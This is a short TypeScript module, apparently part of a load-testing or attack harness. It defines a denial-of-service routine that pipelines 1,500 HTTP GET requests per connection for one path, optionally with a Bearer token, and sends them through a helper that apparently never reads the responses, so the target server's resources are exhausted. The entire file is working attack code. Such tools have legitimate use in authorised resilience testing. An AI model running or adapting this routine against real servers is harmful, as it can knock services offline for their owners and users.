import { type Attack, silentReaders } from './target.ts';

/** Asks 1,500 times for a document or page at once, over and over, and reads nothing. */
export const run: Attack = (target, signal, connections) => {
  const { path, apiKey } = target.page ?? { path: '/openapi.json', apiKey: null };
  const credential = apiKey === null ? '' : `Authorization: Bearer ${apiKey}\r\n`;
  const requests = `GET ${path} HTTP/1.1\r\nHost: a\r\n${credential}\r\n`.repeat(1_500);
  return silentReaders(target, signal, connections, Buffer.from(requests), true);
};
